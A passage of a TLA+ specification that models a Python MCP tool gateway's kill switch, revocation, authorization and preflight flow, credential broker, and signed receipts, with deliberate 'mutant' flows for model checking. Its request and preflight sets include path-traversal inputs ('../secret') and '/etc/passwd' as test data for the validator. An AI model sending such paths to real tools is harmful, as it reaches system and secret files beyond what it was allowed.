        /\ events' = Append(events, event)
        /\ ret' = [outcome |-> IF raising = {} THEN "returned" ELSE "raised",
                   method |-> method, target |-> target, actor |-> actor,
                   event |-> event, called |-> [i \in 1..last |-> i]]
        /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars,
                       preflightVars, inc_listeners, emitterVars, ks_prior>>

\* IncidentController.activate_kill_switch
IncidentActivateKillSwitch(tool_names, actor) ==
    /\ inc_kill_switch_tools' = inc_kill_switch_tools \cup Range(tool_names)
    /\ EmitEvent("activate_kill_switch", "kill_switch_activated", JoinComma(tool_names), actor)
    /\ UNCHANGED <<quarantined_sessions, revoked_principals>>

\* IncidentController.deactivate_kill_switch
IncidentDeactivateKillSwitch(tool_names, actor) ==
    /\ inc_kill_switch_tools' = inc_kill_switch_tools \ Range(tool_names)
    /\ EmitEvent("deactivate_kill_switch", "kill_switch_deactivated", JoinComma(tool_names), actor)
    /\ UNCHANGED <<quarantined_sessions, revoked_principals>>

\* IncidentController.is_killed
IsKilled(tool_name) == tool_name \in inc_kill_switch_tools

\* IncidentController.quarantine_session
QuarantineSession(session_id, actor) ==
    /\ quarantined_sessions' = quarantined_sessions \cup {session_id}
    /\ EmitEvent("quarantine_session", "session_quarantined", Chars(session_id), actor)
    /\ UNCHANGED <<inc_kill_switch_tools, revoked_principals>>

\* IncidentController.release_session
ReleaseSession(session_id, actor) ==
    /\ quarantined_sessions' = quarantined_sessions \ {session_id}
    /\ EmitEvent("release_session", "session_released", Chars(session_id), actor)
    /\ UNCHANGED <<inc_kill_switch_tools, revoked_principals>>

\* IncidentController.revoke_principal
RevokePrincipal(principal_sub, actor) ==
    /\ revoked_principals' = revoked_principals \cup {principal_sub}
    /\ EmitEvent("revoke_principal", "principal_revoked", Chars(principal_sub), actor)
    /\ UNCHANGED <<inc_kill_switch_tools, quarantined_sessions>>

\* IncidentController.reinstate_principal
ReinstatePrincipal(principal_sub, actor) ==
    /\ revoked_principals' = revoked_principals \ {principal_sub}
    /\ EmitEvent("reinstate_principal", "principal_reinstated", Chars(principal_sub), actor)
    /\ UNCHANGED <<inc_kill_switch_tools, quarantined_sessions>>

\* IncidentController.is_revoked
IsRevoked(principal) == principal.sub \in revoked_principals

(***************************************************************************)
(* Receipt emitter (csp_gateway/receipts.py).                              *)
(***************************************************************************)
\* GatewayConfig.receipts_path: no receipts file unless one is configured
receipts_path == None

\* types.py hash_args: the digest of the canonical (key-sorted) JSON text, taken
\* as free of collisions and so standing for the content it digests
HashArgs(arguments) == [sha256 |-> arguments]

\* types.py Receipt.create (the random ids and the timestamp left out)
Receipt(principal, mcp_method, decision, token_handling, tool_name, server_id, args_hash, size_bytes_in, sandbox_fs_policy, sandbox_net_policy) ==
    [principal |-> principal, mcp_method |-> mcp_method, decision |-> decision,
     token_handling |-> token_handling, tool_name |-> tool_name, server_id |-> server_id,
     args_hash |-> args_hash, size_bytes_in |-> size_bytes_in,
     sandbox_fs_policy |-> sandbox_fs_policy, sandbox_net_policy |-> sandbox_net_policy]

\* ReceiptEmitter.emit: the receipt returned and the store and file it leaves, or
\* the exception it ends with (json.dumps of the arguments before anything is
\* stored; a listener after the receipt is stored)
Emit(principal, mcp_method, decision, token_handling, tool_name, server_id, arguments, sandbox_fs_policy, sandbox_net_policy) ==
    IF DOMAIN arguments # {} /\ ~JsonSerializable(arguments)
    THEN [raised |-> TRUE, receipt |-> Nil, receipts |-> receipts, output_lines |-> output_lines]
    ELSE LET receipt == Receipt(principal, mcp_method, decision, token_handling,
                                tool_name, server_id,
                                IF DOMAIN arguments # {} THEN HashArgs(arguments) ELSE Nil,
                                IF DOMAIN arguments # {} THEN JsonLen(arguments) ELSE Nil,
                                sandbox_fs_policy, sandbox_net_policy)
         IN  IF \E i \in 1..Len(listeners) : listeners[i] = "raises"
             THEN [raised |-> TRUE, receipt |-> Nil,
                   receipts |-> Append(receipts, receipt), output_lines |-> output_lines]
             ELSE [raised |-> FALSE, receipt |-> receipt,
                   receipts |-> Append(receipts, receipt),
                   output_lines |-> IF output_path # None
                                    THEN output_lines + 1 ELSE output_lines]

\* ReceiptEmitter.add_listener
AddListener(listener) ==
    /\ Len(listeners) < MaxListeners
    /\ listeners' = Append(listeners, listener)
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, receipts, output_path, output_lines, ks_prior>>

\* a caller invokes ReceiptEmitter.emit for a request it has decided on
EmitCall(principal, mcp_method, decision, token_handling, arguments) ==
    LET Return(emitted) ==
            /\ Len(receipts) < MaxReceipts
            /\ receipts' = emitted.receipts
            /\ output_lines' = emitted.output_lines
            /\ ret' = [outcome |-> IF emitted.raised THEN "raised" ELSE "returned",
                       method |-> "emit", arguments |-> arguments,
                       receipt |-> emitted.receipt]
            /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars,
                           preflightVars, incidentVars, listeners, output_path, ks_prior>>
    IN  Return(Emit(principal, mcp_method, decision, token_handling, None, None, arguments,
                    None, None))

(***************************************************************************)
(* Sandbox policies (assay_gateway/sandbox.py), for a gateway built with   *)
(* the defaults of SandboxConfig and no network allowlist.                 *)
(***************************************************************************)
read_only == FALSE
network_allowlist == <<>>

\* SandboxExecutor.fs_policy
fs_policy == IF read_only THEN "read_only" ELSE "workspace_only"

\* SandboxExecutor.net_policy
net_policy == IF network_allowlist # <<>> THEN "allowlist" ELSE "block_all"

(***************************************************************************)
(* Gateway orchestrator (csp_gateway/gateway.py).                          *)
(***************************************************************************)
\* Principal(sub="anonymous", actor_type="user")
Anonymous == Principal("anonymous", "user")

\* TokenHandling(mode=TokenMode.NONE, passthrough_detected=False)
NoTokenHandling == TokenHandling("none", FALSE, None)

\* a listing that is not filtered by the caller's permissions
FilterToolsListAll(sub, all_tools) == all_tools

\* PolicyEngine.filter_tools_list
FilterToolsList(sub, all_tools) == SelectSeq(all_tools, LAMBDA t : CanDiscover(sub, t))

\* where a handler stops: the stages it consulted, and what it hands to emit
Stop(stages, principal, decision, token_handling, allowed) ==
    [raised |-> FALSE, stages |-> stages, principal |-> principal, decision |-> decision,
     token_handling |-> token_handling,
     sandbox_fs_policy |-> IF allowed THEN fs_policy ELSE None,
     sandbox_net_policy |-> IF allowed THEN net_policy ELSE None]

\* a stage ended with an exception: nothing is handed to emit
Raise(stages) ==
    [raised |-> TRUE, stages |-> stages, principal |-> Nil, decision |-> Nil,
     token_handling |-> Nil, sandbox_fs_policy |-> None, sandbox_net_policy |-> None]

\* mutant: the payload is validated before the principal is authorized
ToolsCallFlowPreflightFirst(token, tool_name, arguments, server_id) ==
    LET authn_result == Authenticate(token) IN
    IF ~authn_result.authenticated
    THEN Stop(<<"authenticate">>, Anonymous, DenyNoAuthn, NoTokenHandling, FALSE)
    ELSE
    LET principal == authn_result.principal IN
    IF IsRevoked(principal)
    THEN Stop(<<"authenticate", "revocation">>, principal,
              Decision("deny", <<"DENY_KILL_SWITCH">>), TokenHandling("blocked", FALSE, None), FALSE)
    ELSE
    LET validation == Validate(tool_name, arguments) IN
    IF validation.raised
    THEN Raise(<<"authenticate", "revocation", "preflight">>)
    ELSE IF ~validation.valid
    THEN Stop(<<"authenticate", "revocation", "preflight">>, principal,
              ToDecision(validation), NoTokenHandling, FALSE)
    ELSE
    LET authz_decision == Evaluate(principal.sub, tool_name) IN
    IF authz_decision.result # "allow"
    THEN Stop(<<"authenticate", "revocation", "preflight", "authorize">>, principal,
              authz_decision, NoTokenHandling, FALSE)
    ELSE Stop(<<"authenticate", "revocation", "preflight", "authorize">>, principal,
              Decision("allow", <<"ALLOW_POLICY_MATCH">>), NoTokenHandling, TRUE)

\* mutant: only a deny of the authorization stage stops the request
ToolsCallFlowApprovalProceeds(token, tool_name, arguments, server_id) ==
    LET authn_result == Authenticate(token) IN
    IF ~authn_result.authenticated
    THEN Stop(<<"authenticate">>, Anonymous, DenyNoAuthn, NoTokenHandling, FALSE)
    ELSE
    LET principal == authn_result.principal IN
    IF IsRevoked(principal)
    THEN Stop(<<"authenticate", "revocation">>, principal,
              Decision("deny", <<"DENY_KILL_SWITCH">>), TokenHandling("blocked", FALSE, None), FALSE)
    ELSE
    LET authz_decision == Evaluate(principal.sub, tool_name) IN
    IF authz_decision.result = "deny"
    THEN Stop(<<"authenticate", "revocation", "authorize">>, principal,
              authz_decision, NoTokenHandling, FALSE)
    ELSE
    LET validation == Validate(tool_name, arguments) IN
    IF validation.raised
    THEN Raise(<<"authenticate", "revocation", "authorize", "preflight">>)
    ELSE IF ~validation.valid
    THEN Stop(<<"authenticate", "revocation", "authorize", "preflight">>, principal,
              ToDecision(validation), NoTokenHandling, FALSE)
    ELSE Stop(<<"authenticate", "revocation", "authorize", "preflight">>, principal,
              Decision("allow", <<"ALLOW_POLICY_MATCH">>), NoTokenHandling, TRUE)

\* MCPGateway.handle_tools_call up to its call of emit
ToolsCallFlow(token, tool_name, arguments, server_id) ==
    LET authn_result == Authenticate(token) IN
    IF ~authn_result.authenticated
    THEN Stop(<<"authenticate">>, Anonymous, DenyNoAuthn, NoTokenHandling, FALSE)
    ELSE
    LET principal == authn_result.principal IN
    IF IsRevoked(principal)
    THEN Stop(<<"authenticate", "revocation">>, principal,
              Decision("deny", <<"DENY_KILL_SWITCH">>), TokenHandling("blocked", FALSE, None), FALSE)
    ELSE
    LET authz_decision == Evaluate(principal.sub, tool_name) IN
    IF authz_decision.result # "allow"
    THEN Stop(<<"authenticate", "revocation", "authorize">>, principal,
              authz_decision, NoTokenHandling, FALSE)
    ELSE
    LET validation == Validate(tool_name, arguments) IN
    IF validation.raised
    THEN Raise(<<"authenticate", "revocation", "authorize", "preflight">>)
    ELSE IF ~validation.valid
    THEN Stop(<<"authenticate", "revocation", "authorize", "preflight">>, principal,
              ToDecision(validation), NoTokenHandling, FALSE)
    ELSE IF server_id # None /\ server_id # ""
    THEN LET token_handling == GetUpstreamCredential(token, server_id).handling IN
         IF token_handling.passthrough_detected
         THEN Stop(<<"authenticate", "revocation", "authorize", "preflight", "broker">>,
                   principal, DenyPassthrough, token_handling, FALSE)
         ELSE Stop(<<"authenticate", "revocation", "authorize", "preflight", "broker">>,
                   principal, Decision("allow", <<"ALLOW_POLICY_MATCH">>), token_handling, TRUE)
    ELSE Stop(<<"authenticate", "revocation", "authorize", "preflight">>, principal,
              Decision("allow", <<"ALLOW_POLICY_MATCH">>), NoTokenHandling, TRUE)

\* MCPGateway.handle_tools_call: the flow's outcome is handed to emit, and both are returned
HandleToolsCall(token, tool_name, arguments, server_id) ==
    LET Return(flow, emitted) ==
            LET raised == flow.raised \/ emitted.raised
            IN  /\ Len(receipts) < MaxReceipts
                /\ receipts' = IF flow.raised THEN receipts ELSE emitted.receipts
                /\ output_lines' = IF flow.raised THEN output_lines ELSE emitted.output_lines
                /\ ret' = [outcome |-> IF raised THEN "raised" ELSE "returned",
                           method |-> "tools/call", token |-> token, tool_name |-> tool_name,
                           arguments |-> arguments, server_id |-> server_id,
                           stages |-> flow.stages,
                           decision |-> IF raised THEN Nil ELSE flow.decision,
                           receipt |-> IF raised THEN Nil ELSE emitted.receipt]
                /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars,
                               preflightVars, incidentVars, listeners, output_path, ks_prior>>
        EmitFor(flow) ==
            Return(flow, Emit(flow.principal, "tools/call", flow.decision, flow.token_handling,
                              tool_name, server_id, arguments,
                              flow.sandbox_fs_policy, flow.sandbox_net_policy))
    IN  EmitFor(ToolsCallFlow(token, tool_name, arguments, server_id))

\* MCPGateway.handle_tools_list up to its call of emit
ToolsListFlow(token) ==
    LET authn_result == Authenticate(token) IN
    IF ~authn_result.authenticated
    THEN [visible_tools |-> Nil, principal |-> Anonymous, decision |-> DenyNoAuthn]
    ELSE [visible_tools |-> FilterToolsList(authn_result.principal.sub, ListAll),
          principal |-> authn_result.principal,
          decision |-> Decision("allow", <<"ALLOW_POLICY_MATCH">>)]

\* MCPGateway.handle_tools_list: the flow's outcome is handed to emit, and both are returned
HandleToolsList(token) ==
    LET Return(flow, emitted) ==
            /\ Len(receipts) < MaxReceipts
            /\ receipts' = emitted.receipts
            /\ output_lines' = emitted.output_lines
            /\ ret' = [outcome |-> IF emitted.raised THEN "raised" ELSE "returned",
                       method |-> "tools/list", token |-> token,
                       visible_tools |-> IF emitted.raised THEN Nil ELSE flow.visible_tools,
                       decision |-> IF emitted.raised THEN Nil ELSE flow.decision,
                       receipt |-> IF emitted.raised THEN Nil ELSE emitted.receipt]
            /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars,
                           preflightVars, incidentVars, listeners, output_path, ks_prior>>
        EmitFor(flow) ==
            Return(flow, Emit(flow.principal, "tools/list", flow.decision, NoTokenHandling,
                              None, None, <<>>, None, None))
    IN  EmitFor(ToolsListFlow(token))

(***************************************************************************)
(* The state after MCPGateway.__init__.                                    *)
(***************************************************************************)
GatewayInit ==
    /\ tools = <<>>
    /\ risk_patterns = <<>>
    /\ valid_tokens = <<>>
    /\ permissions = <<>>
    /\ kill_switch_tools = {}
    /\ vault = <<>>
    /\ exchange_config = <<>>
    /\ passthrough_blocked = TRUE
    /\ schemas = <<>>
    /\ file_tools = {"fs_read", "fs_write", "fs_delete", "file_read", "file_write"}
    /\ inc_kill_switch_tools = {}
    /\ quarantined_sessions = {}
    /\ revoked_principals = {}
    /\ events = <<>>
    /\ inc_listeners = <<>>
    /\ receipts = <<>>
    /\ listeners = <<>>
    /\ output_lines = 0
    /\ ret = NoReturn
    /\ ks_prior = [t \in ToolNames |-> Nil]

\* a process that runs the gateway alone: crypto_core is not imported and no
\* demo episode exists
Init ==
    /\ GatewayInit
    /\ output_path = receipts_path
    /\ HAS_CRYPTO = None
    /\ parent_hash = None
    /\ store = <<>>
    /\ running = <<>>

(***************************************************************************)
(* grant and evaluate run by different threads (authz.py takes no lock):   *)
(* each statement that reads or writes the shared Permission object is a   *)
(* step of its own.                                                        *)
(***************************************************************************)
\* PolicyEngine.grant run by thread t, statement by statement: the record is
\* created when missing; perm.allowed_tools.update(tools); perm.max_risk = max_risk.
\* `before` keeps the permission map the call found, for comparison
GrantThread(t, sub, tool_names, max_risk) ==
    \/ /\ running = <<>>
       /\ permissions' = WithPermission(sub, PermissionOrNew(sub))
       /\ running' = (t :> [pc |-> "update", sub |-> sub, tools |-> tool_names,
                            max_risk |-> max_risk, before |-> permissions])
       /\ ks_prior' = ForgetPrior
       /\ ret' = NoReturn
       /\ UNCHANGED <<registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                      incidentVars, emitterVars, HAS_CRYPTO, parent_hash, store>>
    \/ /\ t \in DOMAIN running
       /\ running[t].pc = "update"
       /\ running[t].sub = sub /\ running[t].tools = tool_names
       /\ running[t].max_risk = max_risk
       /\ permissions' = [permissions EXCEPT
                              ![running[t].sub].allowed_tools = @ \cup running[t].tools]
       /\ running' = [running EXCEPT ![t].pc = "max_risk"]
       /\ ks_prior' = ForgetPrior
       /\ ret' = NoReturn
       /\ UNCHANGED <<registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                      incidentVars, emitterVars, HAS_CRYPTO, parent_hash, store>>
    \/ /\ t \in DOMAIN running
       /\ running[t].pc = "max_risk"
       /\ running[t].sub = sub /\ running[t].tools = tool_names
       /\ running[t].max_risk = max_risk
       /\ permissions' = [permissions EXCEPT ![running[t].sub].max_risk = running[t].max_risk]
       /\ running' = [x \in DOMAIN running \ {t} |-> running[x]]
       /\ ks_prior' = ForgetPrior
       /\ ret' = NoReturn
       /\ UNCHANGED <<registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                      incidentVars, emitterVars, HAS_CRYPTO, parent_hash, store>>

\* PolicyEngine.evaluate run by thread t: the kill-switch test, the registry loop and
\* self._permissions.get; then the two membership tests on the Permission object it
\* holds a reference to; then the read of perm.max_risk
EvaluateThread(t, sub, tool_name) ==
    LET Return(decision) ==
            /\ ret' = [outcome |-> "returned", method |-> "evaluate", sub |-> sub,
                       tool_name |-> tool_name, decision |-> decision]
            /\ running' = [x \in DOMAIN running \ {t} |-> running[x]]
        Continue(pc) ==
            /\ running' = (t :> [pc |-> pc, sub |-> sub, tool_name |-> tool_name]) @@ running
            /\ UNCHANGED ret
    IN  /\ \/ /\ t \notin DOMAIN running
              /\ IF IsKillSwitched(tool_name)
                 THEN Return(Decision("deny", <<"DENY_KILL_SWITCH">>))
                 ELSE IF FindTool(tool_name) = Nil
                 THEN Return(Decision("deny", <<"DENY_TOOL_NOT_FOUND">>))
                 ELSE IF PermissionOf(sub) = Nil
                 THEN Return(Decision("deny", <<"DENY_NO_MATCHING_RULE">>))
                 ELSE Continue("members")
           \/ /\ t \in DOMAIN running
              /\ running[t].pc = "members"
              /\ running[t].sub = sub /\ running[t].tool_name = tool_name
              /\ IF tool_name \in permissions[sub].denied_tools
                 THEN Return(Decision("deny", <<"DENY_NO_PERMISSION">>))
                 ELSE IF tool_name \notin permissions[sub].allowed_tools
                 THEN Return(Decision("deny", <<"DENY_NO_MATCHING_RULE">>))
                 ELSE running' = [running EXCEPT ![t].pc = "risk"] /\ UNCHANGED ret
           \/ /\ t \in DOMAIN running
              /\ running[t].pc = "risk"
              /\ running[t].sub = sub /\ running[t].tool_name = tool_name
              /\ IF RiskExceeds(FindTool(tool_name).risk_category, permissions[sub].max_risk)
                 THEN Return(Decision("require_approval", <<"REQUIRE_APPROVAL">>))
                 ELSE Return(Decision("allow", <<"ALLOW_POLICY_MATCH">>))
        /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, store>>

\* the policy engine while one thread grants and another evaluates; the registry
\* and the denials change only between calls
NextGrant ==
    \/ \E t \in AuthzTools : running = <<>> /\ Register("server_a", t)
    \/ \E t \in SUBSET AuthzTools : running = <<>> /\ Deny("alice", t)
    \/ \E t \in AuthzToolLists, m \in RiskCategory : GrantThread("thread1", "alice", t, m)
    \/ \E s \in Subjects, t \in AuthzTools : EvaluateThread("thread2", s, t)

SpecGrant == Init /\ [][NextGrant]_vars

(***************************************************************************)
(* The policy engine and its registry on their own.                        *)
(***************************************************************************)
NextAuthz ==
    \/ \E s \in Servers, t \in AuthzTools : Register(s, t)
    \/ \E t \in AuthzToolLists, m \in RiskCategory : Grant("alice", t, m)
    \/ \E t \in SUBSET AuthzTools : Deny("alice", t)
    \/ \E t \in AuthzToolLists : ActivateKillSwitch(t)
    \/ \E t \in AuthzToolLists : DeactivateKillSwitch(t)
    \/ \E s \in Subjects, t \in AuthzTools : EvaluateCall(s, t)

SpecAuthz == Init /\ [][NextAuthz]_vars

(***************************************************************************)
(* The gateway in service: configured as the conformance fixture configures *)
(* it (tests/conftest.py), then called and operated on.                    *)
(***************************************************************************)
\* arguments of tools/call requests
ArgsEmpty == <<>>
ArgsOk == [path |-> "ok.txt"]
ArgsTraversal == [path |-> "../secret"]
ArgsLarge == [path |-> "ok.txt", data |-> "xxxxxxxxxxxxxxxx"]
ArgsIntPath == [path |-> IntObject]
ArgsUnserializable == [data |-> SetObject]

Request(token, tool_name, arguments, server_id) ==
    [token |-> token, tool_name |-> tool_name, arguments |-> arguments, server_id |-> server_id]

\* the tools/call requests made: every combination of a missing or valid token, a
\* permitted or approval-bound tool, a sound or escaping path and a configured or
\* unconfigured upstream server, and single requests for the remaining inputs
Requests ==
    {Request(k, t, a, s) : k \in {None, "token_alice"}, t \in {"fs_read", "fs_delete"},
                           a \in {ArgsOk, ArgsTraversal}, s \in {"server_a", "server_c"}}
    \cup {Request("Bearer token_bob", "fs_read", ArgsOk, "server_a"),
          Request("Bearer token_alice", "fs_read", ArgsEmpty, None),
          Request("token_alice", "fs_read", ArgsLarge, "server_c"),
          Request("token_alice", "fs_read", ArgsOk, "server_b"),
          Request("token_alice", "fs_read", ArgsIntPath, None),
          Request("token_alice", "fs_read", ArgsUnserializable, None),
          Request("", "fs_read", ArgsUnserializable, "server_a")}

\* the tokens tools/list is called with
ListTokens == {None, "token_alice", "Bearer token_bob"}

\* tests/conftest.py gateway(): the fixture's configuration calls, in their order
\* (the model's file tools stand for the fixture's tools)
ConfigureFixture ==
    \/ Len(tools) = 0 /\ Register("server_a", "fs_read")
    \/ Len(tools) = 1 /\ Register("server_a", "fs_delete")
    \/ Len(tools) = 2 /\ DOMAIN valid_tokens = {}
          /\ AddValidToken("token_alice", [sub |-> "alice", actor_type |-> "user"])
    \/ DOMAIN valid_tokens = {"token_alice"}
          /\ AddValidToken("token_bob", [sub |-> "bob", actor_type |-> "agent"])
    \/ DOMAIN valid_tokens = {"token_alice", "token_bob"} /\ DOMAIN permissions = {}
          /\ Grant("alice", {"fs_read", "fs_delete"}, "HIGH")
    \/ DOMAIN permissions = {"alice"} /\ Grant("bob", {"tool_x"}, "HIGH")
    \/ DOMAIN permissions = {"alice", "bob"} /\ DOMAIN vault = {}
          /\ ConfigureVault("server_a", "vault_secret_a")
    \/ DOMAIN vault = {"server_a"} /\ DOMAIN exchange_config = {}
          /\ ConfigureExchange("server_b", "server_b")
    \/ DOMAIN exchange_config = {"server_b"} /\ DOMAIN schemas = {}
          /\ RegisterSchema("fs_read", {"path"})

\* the fixture has returned the gateway
Configured == DOMAIN schemas # {}

Next ==
    \/ ConfigureFixture
    \/ Configured /\ \E r \in Requests :
           HandleToolsCall(r.token, r.tool_name, r.arguments, r.server_id)
    \/ Configured /\ \E k \in ListTokens : HandleToolsList(k)
    \/ Configured /\ RevokePrincipal("alice", "system")
    \/ Configured /\ ReinstatePrincipal("alice", "system")
    \/ Configured /\ IncidentActivateKillSwitch(<<"fs_read">>, "system")
    \/ Configured /\ IncidentDeactivateKillSwitch(<<"fs_read">>, "system")
    \/ Configured /\ ActivateKillSwitch({"fs_read"})
    \/ Configured /\ DeactivateKillSwitch({"fs_read"})

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* The credential broker of the fixture's gateway: the broker is asked     *)
(* directly and through tools/call while its configuration changes.        *)
(***************************************************************************)
NextBroker ==
    \/ ConfigureFixture
    \/ \E t \in {"", "token_alice", "token_bob", "exchanged:server_b:exchange..."},
          s \in Servers \cup {"server_c"} : GetUpstreamCredentialCall(t, s)
    \/ \E b \in BOOLEAN : AllowPassthrough(b)
    \/ Configured /\ \E secret \in {"vault_secret_a", "token_alice"} :
           ConfigureVault("server_a", secret)
    \/ Configured /\ \E r \in Requests :
           HandleToolsCall(r.token, r.tool_name, r.arguments, r.server_id)

SpecBroker == Init /\ [][NextBroker]_vars

(***************************************************************************)
(* Preflight validation: validate called with argument dicts of every      *)
(* shape while schemas are registered.                                     *)
(***************************************************************************)
\* a key the argument dict does not hold
Absent == "<absent>"

\* the dict with the given values under path, file_path and data
ArgsOf(path, file_path, data) ==
    LET given == [k \in {"path", "file_path", "data"} |->
                    CASE k = "path" -> path [] k = "file_path" -> file_path [] k = "data" -> data]
    IN  [k \in {x \in DOMAIN given : given[x] # Absent} |-> given[k]]

PathValues ==
    {Absent, "", "ok.txt", "../secret", ".", "a/../ok.txt", "/etc/passwd",
     "sub/file.txt", "sub/file2.txt", IntObject}

PreflightArgs ==
    {ArgsOf(p, f, d) : p \in PathValues, f \in {Absent, "ok.txt", "../secret"},
                       d \in {Absent, "xxxxxxxxxxxxxxxx", SetObject}}

NextPreflight ==
    \/ \E props \in {{"path"}, {"path", "file_path"}} : RegisterSchema("fs_read", props)
    \/ RegisterSchema("tool_x", {})
    \/ \E t \in {"fs_read", "tool_x"}, a \in PreflightArgs : ValidateCall(t, a)

SpecPreflight == Init /\ [][NextPreflight]_vars

(***************************************************************************)
(* Discovery: tools/list on a gateway whose registry, tokens and           *)
(* permissions are being configured.                                       *)
(***************************************************************************)
NextDiscovery ==
    \/ \E e \in {<<"server_a", "fs_read">>, <<"server_a", "fs_delete">>, <<"server_b", "fs_read">>} :
           Register(e[1], e[2])
    \/ \E k \in {<<"token_alice", [sub |-> "alice", actor_type |-> "user"]>>,
                  <<"token_bob", [sub |-> "bob", actor_type |-> "agent"]>>} :
           AddValidToken(k[1], k[2])
    \/ \E sub \in Subjects, t \in AuthzToolLists : Grant(sub, t, "HIGH")
    \/ Deny("alice", {"fs_read"})
    \/ \E k \in ListTokens : HandleToolsList(k)

SpecDiscovery == Init /\ [][NextDiscovery]_vars


(***************************************************************************)
(* The policy engine operated on (registrations, grants, denials, the kill *)
(* switch) while principals authenticate, evaluate and list tools.         *)
(***************************************************************************)
NextDenial ==
    \/ \E t \in AuthzTools : Register("server_a", t)
    \/ \E t \in AuthzToolLists, m \in {"LOW", "CRITICAL"} : Grant("alice", t, m)
    \/ \E t \in AuthzTools : Deny("alice", {t})
    \/ ActivateKillSwitch({"fs_read"})
    \/ DeactivateKillSwitch({"fs_read"})
    \/ \E t \in AuthzTools : EvaluateCall("alice", t)
    \/ AddValidToken("token_alice", [sub |-> "alice", actor_type |-> "user"])
    \/ HandleToolsList("token_alice")

SpecDenial == Init /\ [][NextDenial]_vars

(***************************************************************************)
(* The receipt kernel (scripts/crypto_core.py) and the demo episode that   *)
(* emits receipts (examples/simulated/assay_demo/tool_safety.py).          *)
(***************************************************************************)
\* the keys of the receipt dicts, in the order json.dumps(sort_keys=True) writes them
SortedKeys ==
    <<"a", "action_id", "amendment_cited", "authority", "command", "episode_id",
      "execution_id", "outcome", "parent_hash", "parent_hashes", "pattern_matched",
      "payload", "plan_hash", "plan_id", "proof_tier", "rationale", "reason",
      "receipt_hash", "receipt_id", "receipt_type", "refusal_id", "risk_level",
      "schema_version", "scope", "signature", "steps", "subject", "summary", "tool",
      "ts", "verdict", "verdict_id">>

\* {k: v for k, v in obj.items() if k not in exclude_fields}; dict(d) with keys popped
Without(obj, exclude_fields) == [k \in (DOMAIN obj) \ exclude_fields |-> obj[k]]

\* jcs_canonicalize, and canonical_json of the demo: json.dumps with sorted keys
\* and compact separators, as the sequence of (key, value) items written; a
\* nested payload dict is written the same way
JcsCanonicalize(obj) ==
    LET items(d) ==
            LET keys == SelectSeq(SortedKeys, LAMBDA k : k \in DOMAIN d)
            IN  [i \in 1..Len(keys) |-> <<keys[i], d[keys[i]]>>]
        keys == SelectSeq(SortedKeys, LAMBDA k : k \in DOMAIN obj)
    IN  [i \in 1..Len(keys) |->
            <<keys[i], IF keys[i] = "payload" THEN items(obj[keys[i]]) ELSE obj[keys[i]]>>]

\* "sha256:" + hexdigest of the bytes (SHA-256 taken as collision-free)
Sha256Hex(data) == <<"sha256:", data>>

\* crypto_core.canonical_hash
CanonicalHash(obj, exclude_fields) == Sha256Hex(JcsCanonicalize(Without(obj, exclude_fields)))

\* tool_safety.compute_receipt_hash: only receipt_hash is left out
ComputeReceiptHash(receipt_dict) == Sha256Hex(JcsCanonicalize(Without(receipt_dict, {"receipt_hash"})))

\* crypto_core.generate_keypair; seed stands for the randomness of
\* Ed25519PrivateKey.generate, and the public key is the one derived from it
GenerateKeypair(key_id, seed) ==
    IF ~HAS_CRYPTO
    THEN [key_id |-> key_id, private_key |-> <<"SIMULATED_PRIVATE_KEY">>,
          public_key |-> <<"SIMULATED_PUBLIC_KEY">>]
    ELSE [key_id |-> key_id, private_key |-> <<"ed25519-private", seed>>,
          public_key |-> <<"ed25519-public", seed>>]

\* the key pairs of two calls of generate_keypair
KeyPairs == {GenerateKeypair("k1", "seed1"), GenerateKeypair("k2", "seed2")}

\* crypto_core.sign_receipt for a receipt that has its receipt_hash: the
\* signature bytes are the SHA-256 digest of "SIMULATED_SIG:<hash>:<key_id>", or
\* the Ed25519 signature of the hash string under the private key; sig holds
\* their base64 encoding
SignReceipt(receipt, keypair) ==
    LET hash_to_sign == receipt["receipt_hash"]
        sig_bytes ==
            IF ~HAS_CRYPTO \/ keypair.private_key = <<"SIMULATED_PRIVATE_KEY">>
            THEN [alg |-> "sha256", key |-> <<"SIMULATED_SIG", keypair.key_id>>, msg |-> hash_to_sign]
            ELSE [alg |-> "ed25519", key |-> keypair.private_key, msg |-> hash_to_sign]
    IN  ("signature" :> [alg |-> "Ed25519", key_id |-> keypair.key_id, sig |-> [b64 |-> sig_bytes]])
            @@ receipt

\* where crypto_core.verify_signature ends in an exception instead of a result.
\* A JSON string is written [str |-> s] and None is Nil where the receipt format
\* expects an object or base64 text. Signature.from_dict calls .get on the value
\* of the signature field outside any try (AttributeError for a string or None);
\* base64.b64decode raises for text that is no base64 ("abc": incorrect padding)
\* or for None, and only the branch that has the cryptography library runs it
\* inside `try ... except Exception`
VerifySignatureRaises(receipt, public_key_bytes) ==
    LET IsDict(v) == DOMAIN v \cap {"nil", "str"} = {}
    IN  /\ "signature" \in DOMAIN receipt
        /\ "receipt_hash" \in DOMAIN receipt
        /\ \/ ~IsDict(receipt["signature"])
           \/ ~HAS_CRYPTO /\ ~IsDict(receipt["signature"].sig)

\* crypto_core.verify_signature: base64 decoding gives back the signature bytes;
\* an Ed25519 signature verifies under the public key derived from the private
\* key that made it, for the message it was made for; bytes that are not an
\* Ed25519 public key or signature end in the caught exception
VerifySignature(receipt, public_key_bytes) ==
    IF "signature" \notin DOMAIN receipt THEN FALSE
    ELSE IF "receipt_hash" \notin DOMAIN receipt THEN FALSE
    ELSE LET sig == receipt["signature"]
             hash_to_verify == receipt["receipt_hash"]
             sig_bytes == sig.sig.b64
         IN  IF ~HAS_CRYPTO
             THEN sig_bytes = [alg |-> "sha256", key |-> <<"SIMULATED_SIG", sig.key_id>>,
                               msg |-> hash_to_verify]
             ELSE /\ "b64" \in DOMAIN sig.sig
                  /\ sig_bytes.alg = "ed25519"
                  /\ Len(public_key_bytes) = 2
                  /\ public_key_bytes = <<"ed25519-public", sig_bytes.key[2]>>
